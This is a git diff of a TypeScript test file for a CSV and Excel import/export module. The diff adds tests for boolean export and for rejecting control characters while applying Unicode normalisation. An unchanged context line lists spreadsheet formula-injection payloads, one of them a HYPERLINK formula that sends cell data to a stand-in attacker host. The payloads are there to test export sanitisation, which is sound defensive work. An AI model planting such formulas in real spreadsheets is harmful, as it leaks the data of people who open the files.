@@ -1,4 +1,5 @@
 import ExcelJS from 'exceljs';
+import type { AppException } from '@dondoc/common';
 import { readTable, writeTable } from './tabular';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
@@ -50,5 +51,20 @@ describe(readTable.name, () => {
     const csv = await writeTable('csv', ['name', 'phone'], values.map((name) => ({ name, phone: '+84 912 345 678' })));
     const rows = await readTable({ originalname: 'export.csv', mimetype: 'text/csv', buffer: csv }, columns);
     expect(rows.map((r) => r.values)).toEqual(values.map((name) => ({ name, phone: '+84 912 345 678' })));
+  });
+
+  it('writes booleans as true/false, so an inactive row exported to CSV imports back inactive', async () => {
+    expect(await csvLines([{ code: 'A', active: false }, { code: 'B', active: true }], ['code', 'active'])).toEqual(['code,active', 'A,false', 'B,true']);
+  });
+
+  it('refuses a cell with a control character or a lone surrogate by row and column, and composes the rest (NFC)', async () => {
+    const file = (text: string) => ({ originalname: 'x.csv', mimetype: 'text/csv', buffer: Buffer.from(text, 'utf8') });
+    const refused = await readTable(file('code,name_vi\nA,x\u0000y\nB,ok\nC,z\u0007\n'), { required: ['code', 'name_vi'], optional: [] }).catch((e: AppException) => e.problems);
+    expect(refused).toEqual([
+      { row: 2, field: 'name_vi', rule: 'noControlCharacters' },
+      { row: 4, field: 'name_vi', rule: 'noControlCharacters' },
+    ]);
+    const rows = await readTable(file('code,name_vi\nA,Xa\u0303 Minh Cha\u0302u\n'), { required: ['code', 'name_vi'], optional: [] });
+    expect(rows[0].values.name_vi).toBe('Xã Minh Châu');
   });
 });
